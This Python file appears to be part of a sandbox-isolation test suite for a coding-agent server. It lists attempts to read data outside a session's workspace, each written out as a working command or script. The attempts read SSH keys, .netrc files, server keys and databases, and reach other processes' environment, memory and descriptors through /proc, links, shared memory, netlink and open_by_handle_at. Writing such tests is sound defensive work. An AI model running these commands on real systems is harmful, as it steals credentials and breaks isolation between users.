"""Attempts to read what is not theirs."""

# ruff: noqa: E501 -- programs are written as they would be typed

from __future__ import annotations

from robocoders.workspace.attacks.attempt import Attempt, Sign

__all__ = ["ON_SECRETS"]

_OWN_VARIABLES = "bare commands get none of the server's variables and descriptors either"

ON_SECRETS: tuple[Attempt, ...] = (
    Attempt(
        "read.other-workspace",
        "read the workspace of another session",
        Sign.LEAKED,
        'cat "$OTHER"; cat "$ROOT"/../other/*; find "$OUTSIDE/data/workspaces" -type f -exec cat {} +',
    ),
    Attempt("read.database", "read the database and its journal", Sign.LEAKED, 'cat "$DATABASE" "$JOURNAL"'),
    Attempt("read.checkpoints", "read what was saved of other sessions", Sign.LEAKED, 'cat "$CHECKPOINT"'),
    Attempt("read.discovery", "read the list of servers with its key", Sign.LEAKED, 'cat "$DISCOVERY"'),
    Attempt(
        "read.keys",
        "read the server's keys and a client's credentials",
        Sign.LEAKED,
        'cat "$SIGN_IN_KEY" "$CREDENTIALS"',
    ),
    Attempt(
        "read.home",
        "read keys and passwords in the home of the server's user",
        Sign.LEAKED,
        'cat "$NETRC" "$SSH_KEY" ~/.netrc ~root/.netrc ~root/.ssh/*',
    ),
    Attempt(
        "read.by-dots",
        "go up from the workspace until something is found",
        Sign.LEAKED,
        "p=..; for i in 1 2 3 4 5; do cat $p/*.db $p/*/*.db $p/*/notes.txt; p=$p/..; done",
    ),
    Attempt(
        "read.symbolic-link",
        "read through symbolic links in the workspace",
        Sign.LEAKED,
        'ln -s "$DATABASE" file; ln -s "$OUTSIDE" folder; ln -s / all; cat file folder/data/*.db "all$NETRC"',
    ),
    Attempt(
        "read.hard-link",
        "give a file outside a second name in the workspace",
        Sign.LEAKED,
        'ln "$OTHER" other && cat other; ln -L "$DATABASE" database && cat database',
    ),
    Attempt(
        "read.proc-root",
        "read through the roots of other processes",
        Sign.LEAKED,
        'for p in /proc/[0-9]* "/proc/$VICTIM" "/proc/$SERVER" /proc/self /proc/thread-self; do cat "$p/root$OTHER"; done',
    ),
    Attempt(
        "read.proc-directory",
        "read through the directories of other processes",
        Sign.LEAKED,
        'for p in /proc/[0-9]* "/proc/$VICTIM" "/proc/$SERVER"; do cat "$p/cwd/.netrc" "$p/cwd/../data/robocoders.db"; done',
    ),
    Attempt(
        "read.proc-descriptors",
        "read what other processes have open",
        Sign.LEAKED,
        """
for pid in others():
    with tried():
        for name in os.listdir(f"/proc/{pid}/fd"):
            show(f"/proc/{pid}/fd/{name}", 65536)
""",
        "python",
    ),
    Attempt(
        "read.proc-environment",
        "read the variables of other processes",
        Sign.LEAKED,
        'for p in /proc/[0-9]* "/proc/$VICTIM" "/proc/$SERVER" /proc/1; do cat "$p/environ"; done',
    ),
    Attempt(
        "read.proc-arguments",
        "read the arguments of other processes",
        Sign.LEAKED,
        'ps axww; for p in /proc/[0-9]* "/proc/$VICTIM"; do cat "$p/cmdline"; done',
    ),
    Attempt(
        "read.proc-memory",
        "read the memory of other processes as a file",
        Sign.LEAKED,
        """
address = int(env["VICTIM_MEMORY"])
for pid in others():
    with tried(), open(f"/proc/{pid}/mem", "rb", buffering=0) as memory:
        memory.seek(address)
        give(memory.read(256))
""",
        "python",
    ),
    Attempt(
        "read.own-environment",
        "find the server's variables among its own",
        Sign.LEAKED,
        'env; cat /proc/self/environ "/proc/$PPID/environ"; set',
        bare=_OWN_VARIABLES,
    ),
    Attempt(
        "read.inherited-descriptors",
        "read every descriptor that it was started with",
        Sign.LEAKED,
        """
for number in range(3, 1024):
    with tried():
        give(os.pread(number, 65536, 0))
for pid in (1, os.getppid()):
    with tried():
        for name in os.listdir(f"/proc/{pid}/fd"):
            show(f"/proc/{pid}/fd/{name}")
""",
        "python",
        bare=_OWN_VARIABLES,
    ),
    Attempt(
        "read.shared-memory",
        "read the host's shared memory by name",
        Sign.LEAKED,
        'cat /dev/shm/* "$SHARED" /run/shm/*',
    ),
    Attempt(
        "read.system-v-memory",
        "attach System V memory of the host by its number",
        Sign.LEAKED,
        """
libc.shmat.restype = ctypes.c_void_p
give(open("/proc/sysvipc/shm").read())
for segment in [int(env["SEGMENT"]), *range(64)]:
    with tried():
        address = libc.shmat(segment, None, 0o10000)
        if address != ctypes.c_void_p(-1).value:
            give(ctypes.string_at(address, 256))
""",
        "python",
    ),
    Attempt(
        "read.message-queue",
        "receive from a message queue of the host",
        Sign.LEAKED,
        """
queue = libc.mq_open(("/" + env["QUEUE"]).encode(), os.O_RDWR | os.O_NONBLOCK)
if queue >= 0:
    buffer = ctypes.create_string_buffer(256)
    length = libc.mq_receive(queue, buffer, ctypes.c_size_t(256), None)
    give(buffer.raw[:max(length, 0)])
    libc.mq_send(queue, buffer.raw, ctypes.c_size_t(max(length, 0)), ctypes.c_uint(0))
show("/dev/mqueue/" + env["QUEUE"])
""",
        "python",
    ),
    Attempt(
        "read.names-of-sockets",
        "list the abstract sockets of the host",
        Sign.LEAKED,
        "cat /proc/net/unix /proc/self/net/unix /proc/1/net/unix; ss -xa",
    ),
    Attempt(
        "read.socket-diagnosis",
        "ask the kernel for all sockets of the host by netlink",
        Sign.LEAKED,
        """
request = struct.pack("=BBHIIIII", socket.AF_UNIX, 0, 0, 0xFFFFFFFF, 0, 1, 0, 0)
header = struct.pack("=IHHII", 16 + len(request), 20, 0x301, 1, 0)
with tried(), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4) as link:
    link.settimeout(1)
    link.send(header + request)
    for _ in range(64):
        data = link.recv(1 << 16)
        give(data)
        if struct.unpack_from("=H", data, 4)[0] == 3:
            break
""",
        "python",
    ),
    Attempt(
        "read.by-handle",
        "open the host's root by its number, past every directory",
        Sign.LEAKED,
        """
here = os.open(".", os.O_RDONLY)
with tried():
    for kind, body in ((1, struct.pack("=II", 2, 0)), (1, struct.pack("=II", 128, 0)), (1, struct.pack("=II", 256, 0))):
        with tried():
            handle = ctypes.create_string_buffer(struct.pack("=Ii", len(body), kind) + body)
            root = call("open_by_handle_at", here, handle, os.O_RDONLY | os.O_DIRECTORY)
            give(os.read(os.open(env["OTHER"].lstrip("/"), os.O_RDONLY, dir_fd=root), 65536))
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 128, 0) + bytes(128))
    mount = ctypes.c_int()
    call("name_to_handle_at", -100, env["OTHER"].encode(), handle, ctypes.byref(mount), 0)
    give(os.read(call("open_by_handle_at", here, handle, os.O_RDONLY), 65536))
""",
        "python",
    ),
    Attempt(
        "read.special-opens",
        "read with calls that are seldom thought of: openat2, by /dev/fd, by /proc/self/cwd, by an O_PATH descriptor",
        Sign.LEAKED,
        """
path = env["OTHER"]
up = "../" * 40
for spelling in (f"/proc/self/cwd/{up}{path}", f"/dev/fd/../cwd/{up}{path}", f"//{path}", f"/proc/self/root/{up}{path}"):
    show(spelling)
with tried():
    give(os.read(call("openat2", -100, path.encode(), struct.pack("=QQQ", os.O_RDONLY, 0, 0), 24), 65536))
with tried():
    anywhere = os.open("/", os.O_PATH)
    os.fchdir(anywhere)
    show(up + path)
with tried():
    show(f"/proc/self/fd/{os.open(os.path.dirname(path), os.O_PATH)}/{os.path.basename(path)}")
""",
        "python",
    ),
)
